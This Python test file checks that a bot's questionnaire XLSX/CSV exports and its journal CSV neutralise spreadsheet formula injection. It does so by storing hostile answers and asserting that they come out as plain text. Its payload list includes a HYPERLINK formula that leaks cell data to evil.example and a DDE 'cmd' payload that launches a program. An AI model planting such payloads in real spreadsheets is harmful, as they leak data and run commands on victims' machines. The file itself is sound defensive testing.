"""Formula injection in every export, on SQLite and PostgreSQL: written answers that a
spreadsheet would run (`=HYPERLINK(…)`, `+`, `-`, `@`, a tab) come out as text, in the
questionnaire XLSX and CSV and in the journal's CSV."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from bot.models import Role
from bot.services import audit
from handlers.questionnaires.callbacks import ReportCallback, ReportView
from tests.e2e.test_questionnaires import _answered, _household_with_tenant

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Clique")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
IDS = sorted(["after_visit", "after_workshop", "closing", "followup_3m"])


async def test_written_answers_are_text_in_the_xlsx_and_the_csv(running_bot, emulator):
    await running_bot.member(9970, Role.coordinator, "Claire", locale="en")
    tenants = [await _household_with_tenant(running_bot, 9971 + n, reference=f"X-{n}") for n in range(len(HOSTILE))]
    now = running_bot.clock.now()
    async with running_bot.sessionmaker() as session:
        for n, (tenant, text) in enumerate(zip(tenants, HOSTILE, strict=True)):
            values = {"other_works": ("no", None), "comment": (None, text)}
            await _answered(session, "followup_3m", tenant.id, tenant.household_id, f"inj{n}", values, now)
        await session.commit()
    user = emulator.user(9970, "Claire", language_code="en")
    await user.send("/menu")
    await user.wait_for_messages()

    await user.press_data(ReportCallback(questionnaire=IDS.index("followup_3m"), view=ReportView.xlsx).pack())
    [workbook_message] = await user.wait_for_messages(timeout=20)
    sheet = load_workbook(io.BytesIO(emulator.files[workbook_message["document"]["file_id"]])).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in HOSTILE]
    assert sorted(cell.value for cell in cells) == sorted(HOSTILE)  # the very words, unchanged
    assert {cell.data_type for cell in cells} == {"s"}  # text, not formulas

    await user.press_data(ReportCallback(questionnaire=IDS.index("followup_3m"), view=ReportView.csv).pack())
    [csv_message] = await user.wait_for_messages(timeout=20)
    table = list(
        csv.reader(io.StringIO(emulator.files[csv_message["document"]["file_id"]].decode("utf-8-sig")), delimiter=";")
    )
    fields = [field for row in table for field in row if field.lstrip("'") in HOSTILE]
    assert sorted(fields) == sorted("'" + text for text in HOSTILE)
    assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for field in row)


async def test_the_journal_csv_is_text_too(running_bot, emulator):
    admin = await running_bot.member(9980, Role.admin, "Alice-Admin", locale="en")
    async with running_bot.sessionmaker() as session:
        await audit.record(
            session, "household.create", actor_id=admin.id, details=HOSTILE[0], now=running_bot.clock.now()
        )
        await session.commit()
    user = emulator.user(9980, "Alice-Admin", language_code="en")
    await user.send("/journal")
    await user.wait_for_messages()
    await user.press("📥 Export (CSV)")
    [document] = await user.wait_for_messages()
    rows = list(csv.DictReader(io.StringIO(emulator.files[document["document"]["file_id"]].decode("utf-8-sig"))))
    assert "'" + HOSTILE[0] in [row["details"] for row in rows]
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
